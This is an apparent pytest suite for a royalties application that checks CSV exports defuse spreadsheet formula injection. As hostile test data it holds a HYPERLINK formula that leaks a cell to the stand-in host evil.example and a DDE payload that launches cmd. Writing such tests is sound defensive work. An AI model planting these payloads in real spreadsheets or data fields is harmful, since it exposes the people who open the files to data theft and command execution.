"""Every CSV export defuses cells a spreadsheet would run as formulas (issue 13): partner-controlled
external ids, party names and recording titles come out as text, our own numbers stay numbers."""

import csv
import io
from datetime import date

import pytest

from catalog.importer import catalog_import, rejects_csv
from config.csv_export import csv_cell
from royalties.exports import payout_batch_csv, settlement_csv, statement_csv
from royalties.models import PartnerSettlement, Statement
from royalties.services import payee_profile_set, payout_batch_create, period_close
from tests.factories import LabelFactory, PartyFactory, RecordingFactory, split_for
from tests.royalties.factories import ClipFactory, attribute, deal, usage

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "=cmd|' /C notepad'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_leading_cells_are_quoted(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+3", "1e5", "0.000001", "plain", "", "a=b", 7, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_cell(value) == value


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_defused(text: str, *values: str) -> None:
    found = cells(text)
    for value in values:
        assert value not in found, f"{value!r} came out as a formula"
        assert "'" + value in found, f"{value!r} is missing"


@pytest.fixture
def hostile_close(label, partner):
    party = PartyFactory(label=label, name=DDE)
    recording = RecordingFactory(label=label, title=HYPERLINK)
    split_for(recording, {party: "1"})
    deal(label, partner, rate="0.5")
    clip = ClipFactory(label=label, partner=partner, external_id="@SUM(A1:A2)")
    attribute(clip, {recording: "1"})
    usage(clip, "100.00", day=date(2026, 9, 10))
    period_close(label=label, period="2026-09")
    payee_profile_set(party=party, currency="EUR", iban="DE89370400440532013000", bic="COBADEFFXXX")
    return party


def test_statement_csv(hostile_close):
    text = statement_csv(Statement.objects.get(party=hostile_close))
    assert_defused(text, HYPERLINK, DDE, "@SUM(A1:A2)")
    assert "closing balance,50.00" in text


def test_settlement_csv(hostile_close):
    text = settlement_csv(PartnerSettlement.objects.get())
    assert all(not cell.startswith(("=", "+", "@")) for cell in cells(text))


def test_payout_batch_bank_export(label, hostile_close):
    text = payout_batch_csv(payout_batch_create(label=label, currency="EUR"))
    assert_defused(text, DDE)
    assert "50.00" in cells(text)


def test_import_rejects_csv():
    label = LabelFactory()
    bad = (
        "isrc,title,display_artist,party_name,right_type,share,effective_from\n"
        f'QZS7M2600101,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",Ann,{DDE},master,0.5,2024-01-01\n'
    )
    report = catalog_import(label=label, csv_text=bad, skip_invalid=True)
    assert_defused(rejects_csv(report), HYPERLINK, DDE)


def test_ddex_ingest_errors_file(tmp_path):
    from django.core.management import CommandError, call_command

    from tests.catalog.test_ddex_ern import ERN43, broken_batch

    LabelFactory(slug="northwind")
    batch = broken_batch(
        tmp_path, {"<ISRC>QZES72600002</ISRC>": "<ISRC>=1+2</ISRC>"}, source=ERN43 / "batch-20261101090000"
    )
    errors = tmp_path / "errors.csv"
    with pytest.raises(CommandError):
        call_command(
            "ddex_ingest", "--label", "northwind", "--no-progress", "--errors", str(errors), str(batch)
        )
    found = cells(errors.read_text())
    assert "'=1+2" in found and "=1+2" not in found
